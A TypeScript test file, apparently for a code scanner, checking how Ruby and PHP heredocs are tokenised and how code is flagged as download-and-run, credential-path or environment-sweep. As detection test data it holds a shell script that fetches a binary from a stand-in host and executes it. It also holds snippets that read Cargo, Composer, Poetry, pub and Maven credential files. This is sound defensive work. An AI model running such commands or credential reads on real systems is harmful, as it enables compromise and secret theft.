import { tokenise } from '../../../../src/adapters/artifacts/analysis/tokens.ts';
import type { Language } from '../../../../src/adapters/artifacts/analysis/language.ts';
import { lookAtText } from './look-at-text.ts';

const texts = (text: string, language: Language): readonly string[] =>
  tokenise(text, language).flatMap(({ kind, value }) => (kind === 'text' ? [value] : []));
const kinds = (text: string, language: Language): readonly string[] =>
  lookAtText(text, language).drafts.map(({ kind }) => kind);

describe('a here-document', () => {
  it.each([
    ['indented', 'run(<<~SH)\n  one\n  two\n  SH\n', ['one\n  two']],
    ['with its end indented', 'run <<-EOS\none\n    EOS\n', ['one']],
    ['at the start of a line', 'run <<SQL\nselect\nSQL\n', ['select']],
    ['with a quoted mark', "run <<~'eos'\n one\neos\n", ['one']],
    ['beside another one', 'run(<<~A, <<~B)\n one\nA\n two\nB\n', ['one', 'two']],
    ['with a longer word of its mark in it', 'run <<~SH\n SHELL\nSH\n', ['SHELL']],
    ['empty', 'run <<~SH\nSH\n', ['']],
  ])('is a text in Ruby: %s', (_, text, expected) => {
    expect(texts(text, 'ruby')).toEqual(expected);
  });

  it.each([
    ['with variables', '<?php $a = <<<EOT\n  one\n  EOT;\n', ['one']],
    ['without', "<?php run(<<<'EOT'\none\nEOT);\n", ['one']],
  ])('is a text in PHP: %s', (_, text, expected) => {
    expect(texts(text, 'php')).toEqual(expected);
  });

  it.each([
    ['appends', 'list <<item\nitem\n'],
    ['opens a singleton class', 'class << self\nself\nend\n'],
    ['shifts by a constant', 'a = 1 <<WIDTH\nb = 2\n'],
    ['has no end', 'run <<~SH\n one\n'],
  ])('is none where Ruby %s', (_, text) => {
    expect(texts(text, 'ruby')).toEqual([]);
  });

  it('leaves its lines, and the rest of the line that opens it, to be read as code', () => {
    expect(kinds('class_eval <<~T, __FILE__\n  def go = system(@command)\nT\n', 'ruby')).toContain('process');
    expect(tokenise('f(<<~T, other)\n one\nT\n', 'ruby').map(({ value }) => value)).toContain('other');
  });

  it('tells a script that downloads and starts a program', () => {
    const script = 'd=$(mktemp -d)\ncurl -fsSL https://a.example.invalid/x -o x\nchmod +x x && ./x\n';
    expect(kinds(`IO.popen(["sh"], "w") { |io| io.write(<<~SH) }\n${script}SH\n`, 'ruby')).toContain(
      'download-and-run',
    );
    expect(kinds(`<?php shell_exec(<<<SH\n${script}SH);\n`, 'php')).toContain('download-and-run');
  });

  it('takes time linear in the text, whatever stands in it', () => {
    const ends = Array.from({ length: 20_000 }, (_, i) => `f <<~M${i}\n`).join('');
    const same = `${'f <<~MARK\n'.repeat(20_000)}MARK\n`;
    const mentions = `${'f <<~M '.repeat(20_000)}\n`;
    const start = performance.now();
    for (const text of [ends, same, mentions]) tokenise(text, 'ruby');
    expect(performance.now() - start).toBeLessThan(2_000);
    expect(texts(`${'f <<~MARK\n'.repeat(100)}MARK\n`, 'ruby')).toHaveLength(1);
  });
});

describe('registry credentials of other tools', () => {
  it.each([
    ['Cargo, below CARGO_HOME', 'rust', 'fs::read(home.join("credentials.toml"))'],
    ['Composer', 'php', "<?php file_get_contents($home . '/.config/composer/auth.json');"],
    ['Poetry', 'python', 'open(home + "/.config/pypoetry/auth.toml")'],
    ['pub', 'dart', "File('$home/.pub-cache/pub-credentials.json').readAsStringSync();"],
    ['Maven', 'java', 'Files.readString(home.resolve(".m2/settings.xml"));'],
  ] as const)('are places of secrets: %s', (_, language, text) => {
    expect(kinds(text, language)).toContain('credential-path');
  });

  it.each([
    ['a file of that name of the project', 'php', "<?php file_get_contents(__DIR__ . '/auth.json');"],
    ['an example of one', 'rust', 'fs::read("docs/credentials.toml.example")'],
  ] as const)('are not %s', (_, language, text) => {
    expect(kinds(text, language)).toEqual([]);
  });
});

describe('the environment under a name of its own', () => {
  it('is told in a module that does nothing else', () => {
    const listed =
      'function d() { const { env } = process; return Object.entries(env).filter(([n]) => wanted.test(n)); }';
    expect(kinds(listed, 'javascript')).toEqual(['environment-sweep']);
  });

  it('is left alone where one variable is read of it', () => {
    expect(kinds('const { env } = process; exports.isDebug = env.DEBUG === "1";', 'javascript')).toEqual([]);
    expect(kinds('const { platform, argv } = process; exports.args = Object.values(argv);', 'javascript')).toEqual([]);
  });
});
